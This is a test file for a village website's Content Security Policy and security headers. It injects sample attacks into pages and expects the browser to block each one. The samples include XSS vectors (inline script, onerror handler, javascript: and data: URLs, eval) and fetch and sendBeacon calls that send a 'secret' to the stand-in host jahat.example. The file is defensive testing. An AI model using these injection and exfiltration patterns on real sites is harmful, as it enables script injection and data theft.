import { expect, it } from 'vitest'
import { setupBrowser } from '../../support/browser'
import { setupSite } from '../../support/site'

/*
 * Whoever gets markup or a script into a page, published or the shell, gets nothing done with it.
 */

const site = setupSite()
const { visit } = setupBrowser({ installs: false })

declare global {
  interface Window {
    /** What got through. */
    ran: string[]
  }
}

const ELSEWHERE = 'https://jahat.example'

/** By what it tries: done in the page, each tells `ran` when it gets through. */
const ATTACKS: Record<string, () => void> = {
  'an inline script': () => {
    const script = document.createElement('script')
    script.textContent = 'ran.push(1)'
    document.body.append(script)
  },
  'an event handler': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="/tidak-ada" onerror="ran.push(1)">')
  },
  'a link to a script': () => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<a id="jahat" href="javascript:ran.push(1)">a</a>',
    )
    document.getElementById('jahat')?.click()
  },
  'a frame of a script': () => {
    document.body.insertAdjacentHTML('beforeend', '<iframe src="javascript:parent.ran.push(1)">')
  },
  'a frame with a document': () => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<iframe srcdoc="<script>parent.ran.push(1)</script>"></iframe>',
    )
  },
  'a script in its address': () => {
    const script = document.createElement('script')
    script.src = 'data:text/javascript,ran.push(1)'
    document.body.append(script)
  },
  'a script in memory': () => {
    const script = document.createElement('script')
    script.src = URL.createObjectURL(new Blob(['ran.push(1)'], { type: 'text/javascript' }))
    document.body.append(script)
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script')
    script.src = 'https://jahat.example/a.js'
    document.body.append(script)
  },
  // Later, for a test itself may run text. Whoever tries is told, not the console.
  eval: () => {
    setTimeout(() => {
      try {
        // oxlint-disable-next-line no-eval -- the policy is to refuse it
        ;(0, eval)('ran.push(1)')
      } catch (error) {
        console.error(String(error))
      }
    })
  },
  'a function made of text': () => {
    setTimeout(() => {
      try {
        ;(Reflect.construct(Function, ['ran.push(1)']) as () => void)()
      } catch (error) {
        console.error(String(error))
      }
    })
  },
  'an object': () => {
    document.body.insertAdjacentHTML('beforeend', '<object data="/jahat.html"></object>')
  },
  'an inline style': () => {
    document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')
  },
  'another base': () => {
    document.head.insertAdjacentHTML('beforeend', '<base href="https://jahat.example/">')
    if (document.baseURI.startsWith('https://jahat.example')) window.ran.push('base')
  },
  'a form that leads elsewhere': () => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<form action="https://jahat.example/" method="post">',
    )
    document.forms[document.forms.length - 1]?.submit()
  },
  'a frame from elsewhere': () => {
    document.body.insertAdjacentHTML('beforeend', '<iframe src="https://jahat.example/"></iframe>')
  },
  'telling somebody else': () => {
    void fetch('https://jahat.example/?rahasia').catch(() => undefined)
  },
  'telling somebody else on leaving': () => {
    navigator.sendBeacon('https://jahat.example/?rahasia')
  },
}

it.each([
  ['a published page', '/'],
  ['the shell', '/login'],
])('%s stops whatever gets into it', async (_, path) => {
  const { context, page, expectErrors } = await visit()
  expectErrors('Content Security Policy', 'Failed to load resource')
  const asked: string[] = []
  await context.route(`${ELSEWHERE}/**`, (route) => {
    asked.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: 'ran.push(1)' })
  })
  await page.goto(site.url(path))
  await page.evaluate(() => void (window.ran = []))
  const gotThrough: Record<string, unknown> = {}
  for (const [name, attack] of Object.entries(ATTACKS)) {
    // A frame's own document tells nobody else what it was kept from: the browser's console does.
    const stopped = page.waitForEvent('console', (message) =>
      message.text().includes('Content Security Policy'),
    )
    await page.evaluate(`(${String(attack)})()`)
    await stopped
    gotThrough[name] = [...(await page.evaluate(() => window.ran.splice(0))), ...asked.splice(0)]
  }
  expect(gotThrough).toEqual(Object.fromEntries(Object.keys(ATTACKS).map((name) => [name, []])))
})

it.each([
  '/kontak',
  '/tidak/ada',
  '/admin',
  '/admin/berita',
  '/pencarian',
  '/pengaduan/7K3MQ2XVB9TD4R6H',
  '/berita/01KAHZ7Q3M9V4T6R8W2X5Y0ABC',
])('%s begins with the same policy', async (path) => {
  const policyOf = async (path: string) =>
    /<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">/
      .exec(await (await fetch(site.url(path))).text())?.[1]
      ?.replace(/'sha256-[^']*'/, 'hash')
  expect(await policyOf(path)).toMatch(/^default-src 'none';script-src 'self';/)
  expect(await policyOf(path)).toBe(await policyOf('/'))
})

it.each(['/', '/login', '/tidak/ada', '/assets/tidak-ada.js'])(
  '%s may be framed by nobody else, is nobody’s opener, and asks for no camera or microphone',
  async (path) => {
    const { headers } = await fetch(site.url(path))
    expect(headers.get('content-security-policy')).toMatch(/frame-ancestors 'self'/)
    expect(headers.get('permissions-policy')).toMatch(/camera=\(\).*microphone=\(\)/)
    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin')
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
    // A village's other hosts need not have TLS.
    expect(headers.get('strict-transport-security')).toBe('max-age=31536000')
  },
)

it('who sets the village’s place is asked for theirs; no page can ask for a camera', async () => {
  const { page } = await visit()
  await page.goto(site.url('/login'))
  const allows = (feature: string) =>
    page.evaluate(
      (feature) =>
        (
          document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }
        ).featurePolicy.allowsFeature(feature),
      feature,
    )
  expect(await allows('geolocation')).toBe(true)
  for (const feature of ['camera', 'microphone', 'display-capture'])
    expect(await allows(feature)).toBe(false)
})
